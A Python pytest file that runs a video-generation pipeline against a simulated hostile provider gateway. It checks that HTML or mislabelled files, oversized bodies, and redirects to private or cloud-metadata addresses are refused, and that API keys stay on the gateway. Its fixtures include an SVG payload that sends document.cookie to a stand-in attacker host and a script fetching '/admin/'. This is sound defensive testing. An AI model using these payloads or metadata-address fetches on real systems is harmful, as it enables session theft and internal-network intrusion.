"""A hostile gateway, run through the real pipeline: nothing it sends is stored or served.

The stand-in speaks the OpenAI Videos protocol (and Runway's, for output URLs): it answers a
video with HTML (labelled text/html, and labelled video/mp4), a thumbnail with an SVG that
carries a script, bodies over the size cap, and output URLs that lead to an "internal service"
on another loopback port, to a private address and to the cloud metadata address. Each prompt
picks one trick. Real RQ workers run the generations end to end.
"""

from __future__ import annotations

import itertools
import json
from pathlib import Path

import pytest
from django.urls import reverse

from workspace.generations.models import Generation, Status
from workspace.generations.submission import generation_submit
from workspace.providers.errors import ErrorClass
from workspace.providers.integrations.openai_videos.adapter import OpenAIVideosAdapter
from workspace.providers.models import Channel

from ..conftest import PASSWORD
from .stand_in import Answer, Seen, StandIn, fake_dns

pytestmark = pytest.mark.django_db(transaction=True)

# Valid-looking media: if any of it were fetched from the wrong place it WOULD be stored.
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 2000
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 500
HTML = b"<!DOCTYPE html><html><body><script>fetch('/admin/').then(r=>r.text())</script></body></html>"
SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b"<script>document.location='https://evil.example/?'+document.cookie</script></svg>")
CAP = 100_000


NOT_PUBLIC = "outputs are fetched only from public addresses. An admin can allow this host on the channel."

# prompt -> (protocol, what the member reads as the reason)
TRICKS = {
    "html": ("openai_videos", "The provider sent a file that is not a video (looks like HTML); nothing was stored."),
    "html-labelled-mp4": ("openai_videos", "The provider sent a file that is not a video (looks like HTML); nothing was stored."),
    "jpeg-as-video": ("openai_videos", "The provider sent a file that is not a video (looks like a JPEG image); nothing was stored."),
    "oversized": ("openai_videos", f"The provider sent more than {CAP} bytes for one file; nothing was stored."),
    "oversized-declared": ("openai_videos", f"The provider sent more than {CAP} bytes for one file; nothing was stored."),
    "redirect-to-internal": ("runway", f"The provider pointed at a private address (127.0.0.1); {NOT_PUBLIC}"),
    "output-on-internal": ("runway", f"The provider pointed at a private address (127.0.0.1); {NOT_PUBLIC}"),
    "redirect-to-private": ("runway", f"The provider pointed at a private address (10.0.0.5); {NOT_PUBLIC}"),
    "output-on-metadata": ("runway", f"The provider pointed at a private address (169.254.169.254); {NOT_PUBLIC}"),
}

# prompt -> the variant refused while the real video is kept: a bad poster frame costs the poster,
# not the video the member paid for.
VARIANT_TRICKS = {"svg-thumbnail": ("openai_videos", "thumbnail")}


class HostileGateway:
    def __init__(self, gateway: StandIn, internal: StandIn) -> None:
        self.gateway, self.internal = gateway, internal
        self.prompts: dict[str, str] = {}
        ids = itertools.count(1)

        def create_openai(seen: Seen) -> Answer:
            body = json.loads(seen.body)
            job_id = f"video_{next(ids)}"
            self.prompts[job_id] = body["prompt"]
            return Answer.json({"id": job_id, "object": "video", "status": "queued",
                                "model": body["model"], "size": body["size"],
                                "seconds": body["seconds"], "created_at": 1_700_000_000})

        def video_or_content(seen: Seen) -> Answer:
            job_id, _, rest = seen.path.removeprefix("/v1/videos/").partition("/")
            if not rest:
                return Answer.json({"id": job_id, "object": "video", "status": "completed",
                                    "progress": 100, "model": "sora-2", "size": "1280x720",
                                    "seconds": "4", "created_at": 1_700_000_000})
            variant = dict(p.split("=") for p in seen.query.split("&") if p).get("variant")
            return self.content(self.prompts[job_id], variant or "video")

        def create_runway(seen: Seen) -> Answer:
            task_id = f"task_{next(ids)}"
            self.prompts[task_id] = json.loads(seen.body)["promptText"]
            return Answer.json({"id": task_id})

        def task(seen: Seen) -> Answer:
            task_id = seen.path.rsplit("/", 1)[-1]
            return Answer.json({"id": task_id, "status": "SUCCEEDED",
                                "createdAt": "2026-01-01T00:00:00Z",
                                "output": [self.output_url(self.prompts[task_id])]})

        gateway.route("POST", "/v1/videos", create_openai)
        gateway.route("GET", "/v1/videos", Answer.json({"object": "list", "data": []}))
        gateway.route("GET", "/v1/videos/", video_or_content, prefix=True)
        gateway.route("POST", "/runway/v1/text_to_video", create_runway)
        gateway.route("GET", "/runway/v1/tasks/", task, prefix=True)
        # A file on the gateway's own origin that sends the fetcher somewhere internal.
        gateway.route("GET", "/files/to-internal", Answer.redirect(f"{internal.url}/secret.mp4"))
        gateway.route("GET", "/files/to-private", Answer.redirect("http://10.0.0.5/secret.mp4"))
        # The internal service holds perfectly good media: only the address policy stops it.
        internal.route("GET", "/secret.mp4", Answer(200, MP4, {"Content-Type": "video/mp4"}))

    def content(self, prompt: str, variant: str) -> Answer:
        if variant != "video":
            if prompt == "svg-thumbnail" and variant == "thumbnail":
                return Answer(200, SVG, {"Content-Type": "image/svg+xml"})
            return Answer(200, JPEG, {"Content-Type": "image/jpeg"})
        if prompt == "html":
            return Answer(200, HTML, {"Content-Type": "text/html; charset=utf-8"})
        if prompt == "html-labelled-mp4":
            return Answer(200, HTML, {"Content-Type": "video/mp4"})
        if prompt == "jpeg-as-video":
            return Answer(200, JPEG, {"Content-Type": "video/mp4"})
        if prompt == "oversized":  # streamed, no declared length
            return Answer(200, iter([MP4] + [b"\x00" * 65536] * 4), {"Content-Type": "video/mp4"})
        if prompt == "oversized-declared":
            return Answer(200, MP4 + b"\x00" * (CAP * 3), {"Content-Type": "video/mp4"})
        return Answer(200, MP4, {"Content-Type": "video/mp4"})

    def output_url(self, prompt: str) -> str:
        return {
            "redirect-to-internal": f"{self.gateway.url}/files/to-internal",
            "output-on-internal": f"{self.internal.url}/secret.mp4",
            "redirect-to-private": f"{self.gateway.url}/files/to-private",
            "output-on-metadata": "http://metadata.hostile.test/latest/meta-data/",
        }[prompt]


def test_nothing_a_hostile_gateway_sends_is_stored_or_served(
    project, teammate, channel, client, run_workers, stand_ins, outside_connects, monkeypatch,
    settings, tmp_path,
) -> None:  # type: ignore[no-untyped-def]
    hostile = HostileGateway(stand_ins(), stand_ins())
    fake_dns(monkeypatch, {"metadata.hostile.test": ["169.254.169.254"]})
    monkeypatch.setattr(OpenAIVideosAdapter, "max_download_bytes", CAP)
    channel.base_url = f"{hostile.gateway.url}/v1"
    channel.set_api_key("sk-hostile-gateway-key")
    channel.save()
    runway = Channel.objects.create(
        slug="runway", name="Runway", protocol="runway",
        base_url=f"{hostile.gateway.url}/runway", requests_per_minute=60_000,
        max_in_flight=50, member_max_in_flight=50,
    )
    runway.set_api_key("key_hostile-runway-key")
    runway.save()
    channels = {"openai_videos": channel, "runway": runway}
    models = {"openai_videos": ("sora-2", 4), "runway": ("gen4.5", 5)}

    generations = {}
    for prompt, (protocol, _) in {**TRICKS, **VARIANT_TRICKS}.items():
        model, seconds = models[protocol]
        generations[prompt] = generation_submit(
            project=project, user=teammate, channel=channels[protocol], model=model,
            prompt=prompt, size="1280x720", seconds=seconds,
        )
    run_workers(lambda: all(
        Generation.objects.get(pk=g.pk).is_terminal for g in generations.values()
    ), timeout=60)

    assert client.login(username=teammate.username, password=PASSWORD)
    for prompt, (_, reason) in TRICKS.items():
        generation = Generation.objects.get(pk=generations[prompt].pk)
        assert generation.status == Status.FAILED, (prompt, generation.status)
        assert generation.error_class == ErrorClass.PROVIDER_FAILED, prompt
        assert generation.error_message == reason, prompt
        assert not (generation.video or generation.thumbnail or generation.spritesheet), prompt
        for variant in ("video", "thumbnail", "spritesheet"):
            url = reverse("generations:file", args=[project.pk, generation.pk, variant])
            assert client.get(url).status_code == 404, (prompt, variant)
        page = client.get(reverse("generations:detail", args=[project.pk, generation.pk]))
        assert "nothing was stored" in page.content.decode() or "public addresses" in (
            page.content.decode()
        ), prompt

    kept = []
    for prompt, (_, refused) in VARIANT_TRICKS.items():
        generation = Generation.objects.get(pk=generations[prompt].pk)
        assert generation.status == Status.COMPLETED, (prompt, generation.status)
        assert generation.video.name.endswith("/video.mp4") and not getattr(generation, refused)
        url = reverse("generations:file", args=[project.pk, generation.pk, refused])
        assert client.get(url).status_code == 404, prompt
        kept += [f.name for f in (generation.video, generation.thumbnail, generation.spritesheet) if f]

    media = Path(settings.STORAGES["default"]["OPTIONS"]["location"])
    stored = sorted(str(p.relative_to(media)) for p in media.rglob("*") if p.is_file())
    assert stored == sorted(kept)
    assert hostile.internal.requests == []
    assert outside_connects == []
    # The key went to the gateway's API only, never along a redirect or to a file URL.
    for seen in hostile.gateway.requests:
        if seen.path.startswith("/files/"):
            assert "authorization" not in seen.headers
